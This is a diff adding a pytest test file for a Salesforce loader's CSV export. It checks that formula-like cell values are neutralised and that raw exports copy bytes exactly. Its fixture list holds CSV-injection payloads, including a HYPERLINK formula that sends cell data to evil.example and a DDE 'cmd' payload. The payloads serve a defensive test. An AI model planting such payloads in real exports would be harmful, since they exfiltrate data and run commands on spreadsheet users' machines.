@@ -1,0 +1,102 @@
+"""Exports: the raw copy is Salesforce's bytes, the Excel-safe copy can never run a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from sfloader_gui.core.review.export import ExportError, excel_safe, export_excel_safe, export_raw
+from sfloader_gui.core.review.session import ReviewSession
+from tests.core.review.runfolders import make_run
+
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tTAB first",
+    "\rCR first",
+    "\nLF first",
+    '";=cmd|" /C calc"!A0',
+    "\0NUL first",
+    "plain, with comma",
+]
+
+
+@pytest.fixture
+def formula_run(tmp_path: Path) -> Path:
+    rows = [[f"F-{i}", value, "note"] for i, value in enumerate(DANGEROUS)]
+    error = "FIELD_CUSTOM_VALIDATION_EXCEPTION:Name looks like a formula:Name --"
+    return make_run(
+        tmp_path,
+        {"formulas.csv": (["External_Id__c", "Name", "Note"], rows)},
+        {"formulas.csv": {r[0]: error for r in rows}},
+    )
+
+
+def test_excel_safe_round_trip(formula_run: Path, tmp_path: Path) -> None:
+    session = ReviewSession(formula_run)
+    dest = tmp_path / "out" / "excel.csv"
+    assert export_excel_safe(session, range(session.row_count), dest) == len(DANGEROUS)
+    data = dest.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    header, body = rows[0], rows[1:]
+    names = [r[header.index("Name")] for r in body]
+    for original, shown in zip(DANGEROUS, names, strict=True):
+        if original[0] in "=+-@\t\r\n\0":
+            assert shown == "'" + original  # neutralised: a spreadsheet shows it as text
+        else:
+            assert shown == original
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))
+    # every cell is quoted on disk and inner quotes doubled, so `";=` cannot break out of its cell
+    assert b'""";=cmd|"" /C calc""!A0"' in data
+    assert b'"plain, with comma"' in data
+    assert header[:4] == ["Source file", "Source row", "Job ID", "Error code"]
+    assert body[0][3] == "FIELD_CUSTOM_VALIDATION_EXCEPTION"
+
+
+def test_raw_export_is_byte_for_byte(formula_run: Path, tmp_path: Path) -> None:
+    session = ReviewSession(formula_run)
+    failed = next(formula_run.glob("jobs/*/failed.csv")).read_bytes()
+    dest = tmp_path / "raw.csv"
+    assert export_raw(session, range(session.row_count), dest) == [dest]
+    assert dest.read_bytes() == failed
+    some = tmp_path / "some.csv"
+    export_raw(session, [0, 3, 7], some)
+    lines = failed.split(b"\n")
+    assert some.read_bytes() == b"\n".join([lines[0], lines[1], lines[4]]) + b"\n" + session.files[
+        0
+    ].index.raw(7)
+
+
+def test_raw_export_splits_files_with_other_headers(tmp_path: Path) -> None:
+    run = make_run(
+        tmp_path,
+        {"a.csv": (["External_Id__c", "Name"], [["1", ""], ["2", "x"]])},
+        {"a.csv": {"1": "REQUIRED_FIELD_MISSING:Required fields are missing: [Name]:Name --"}},
+        unprocessed={"a.csv": ["2"]},
+    )
+    session = ReviewSession(run)
+    written = export_raw(session, range(session.row_count), tmp_path / "both.csv")
+    assert [p.name for p in written] == ["both.csv", "both_2.csv"]
+    assert written[1].read_bytes() == b'External_Id__c,Name\n"2","x"\n'
+
+
+def test_exports_never_overwrite_a_results_file(formula_run: Path) -> None:
+    session = ReviewSession(formula_run)
+    failed = next(formula_run.glob("jobs/*/failed.csv"))
+    before = failed.read_bytes()
+    with pytest.raises(ExportError, match="never overwritten"):
+        export_raw(session, [0], failed)
+    assert failed.read_bytes() == before
+
+
+def test_excel_safe_cell_rule() -> None:
+    assert excel_safe("=1") == "'=1"
+    assert excel_safe("a=1") == "a=1"
+    assert excel_safe("") == ""
